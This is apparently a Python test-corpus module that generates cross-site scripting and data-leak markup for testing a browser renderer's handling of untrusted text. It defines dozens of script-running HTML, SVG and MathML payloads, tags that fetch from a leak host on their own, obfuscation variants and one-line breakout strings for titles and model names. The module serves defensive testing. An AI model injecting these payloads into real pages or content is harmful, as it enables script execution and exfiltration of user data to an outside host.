"""HTML and SVG in the text, plain and disguised."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.browser.corpus.payload import Marks
from tests.browser.corpus.vectors import decimal, leaking

RUNNING = (
    "<script>{script}</script>",
    "<script src={host}/leak/script.js></script>",
    "<img src=x onerror={script}>",
    "<svg onload={script}></svg>",
    "<svg><script>{script}</script></svg>",
    "<svg><animate onbegin={script} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{script}><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x onload={script}></svg>",
    "<svg><foreignObject><img src=x onerror={script}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={script}></mtext></math>",
    "<math href=javascript:{script}>x</math>",
    "<iframe srcdoc='&lt;script&gt;parent.{script}&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.{script}></iframe>",
    "<object data=javascript:{script}></object>",
    "<embed src=javascript:{script}>",
    "<details open ontoggle={script}><summary>x</summary></details>",
    "<input autofocus onfocus={script}>",
    "<textarea autofocus onfocus={script}></textarea>",
    "<select autofocus onfocus={script}></select>",
    "<video src=x onerror={script}></video>",
    "<audio src=x onerror={script}></audio>",
    "<video><source onerror={script}></video>",
    "<body onload={script}>",
    "<marquee onstart={script}>x</marquee>",
    "<style onload={script}></style>",
    "<link rel=stylesheet href=x onerror={script}>",
    "<p style=animation-name:spin onanimationstart={script}>x</p>",
    "<form action=javascript:{script}><button autofocus>x</button></form>",
    "<button formaction=javascript:{script} form=f>x</button>",
    "<a href=javascript:{script}>x</a>",
    "<template><img src=x onerror={script}></template>",
    "<noscript><p title='</noscript><img src=x onerror={script}>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror={script}>'></xmp>",
    "<title><img title='</title><img src=x onerror={script}>'></title>",
    "<dialog open oncancel={script}></dialog>",
    "<div contenteditable autofocus onfocus={script}>x</div>",
    "<x-y tabindex=1 autofocus onfocus={script}>x</x-y>",
    "<p popover id=p onbeforetoggle={script}></p>",
)

FETCHING = (
    "<img src='{url}'>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<video poster='{url}'></video>",
    "<video src='{url}' autoplay></video>",
    "<audio src='{url}' autoplay></audio>",
    "<iframe src='{url}'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=dns-prefetch href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<p style=\"background:url('{url}')\">x</p>",
    "<p style='list-style-image:url({url});display:list-item'>x</p>",
    "<table background='{url}'><tr><td>x</td></tr></table>",
    "<svg><image href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><filter id=f><feImage href='{url}'/></filter><rect filter='url(#f)'/></svg>",
    "<svg><rect fill=\"url('{url}#p')\"/></svg>",
    "<input type=image src='{url}'>",
    "<track src='{url}' default>",
    "<a href='https://a.example' ping='{url}'>x</a>",
    "<script src='{url}'></script>",
)


def across_lines(markup: str) -> str:
    return markup.replace(" ", "\n")


def slashed(markup: str) -> str:
    return markup.replace(" ", "/")


def upper_tags(markup: str) -> str:
    return markup.replace("<s", "<S").replace("<i", "<I").replace("script", "sCrIpT").replace("on", "oN")


def unclosed(markup: str) -> str:
    return markup.rstrip(">")


def escaped(markup: str) -> str:
    return markup.replace("<", "&lt;").replace(">", "&gt;")


def twice_escaped(markup: str) -> str:
    return escaped(markup).replace("&", "&amp;")


def nested(markup: str) -> str:
    return markup.replace("<", "<<", 1).replace("script", "scr<script>ipt")


def as_entities(markup: str) -> str:
    return decimal(markup[:40]) + markup[40:]


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    across_lines,
    slashed,
    upper_tags,
    unclosed,
    escaped,
    twice_escaped,
    nested,
    as_entities,
)

FRAMES = (
    "{markup}",
    "Words before {markup} and behind.",
    "- item\n\n  {markup}",
    "> {markup}",
    "| head |\n| --- |\n| {markup} |",
    "# {markup}",
    "<div>\n\n{markup}\n\n</div>",
    "```html\n{markup}\n```",
    "```svg\n{markup}\n```",
    "    {markup}",
    "[{markup}](https://a.example)",
    "![{markup}](https://a.example/x.png)",
    "[^1]\n\n[^1]: {markup}",
    "`` {markup} ``",
)


def scripts(marks: Marks) -> Iterator[str]:
    """Markup that runs the script, each in each disguise, the frames taken in turn."""
    for place, template in enumerate(RUNNING):
        markup = template.format(script=marks.script, host=marks.host)
        for number, disguise in enumerate(DISGUISES):
            yield FRAMES[(place + number) % len(FRAMES)].format(markup=disguise(markup))


def fetches(marks: Marks) -> Iterator[str]:
    """Markup that requests something from another host by itself."""
    for place, template in enumerate(FETCHING):
        for number, url in enumerate(leaking(marks, f"html{place}")):
            yield FRAMES[(place + number) % len(FRAMES)].format(markup=template.format(url=url))


def names(marks: Marks) -> Iterator[str]:
    """Attacks that fit into one line: for titles and the names of models."""
    for template in RUNNING:
        yield template.format(script=marks.script, host=marks.host)
    for place, template in enumerate(FETCHING):
        yield template.format(url=f"{marks.host}/leak/name{place}")
    for mark in ('"', "'", "`", "</title>", "</script>", "-->", "]]>", "\u202e", "${", "{{"):
        yield f"{mark}><img src=x onerror={marks.script}>"
        yield f"{mark} onmouseover={marks.script} x={mark}"
    yield f"javascript:{marks.script}"
    yield f"![x]({marks.host}/leak/name)"
    yield f"[x](javascript:{marks.script})"
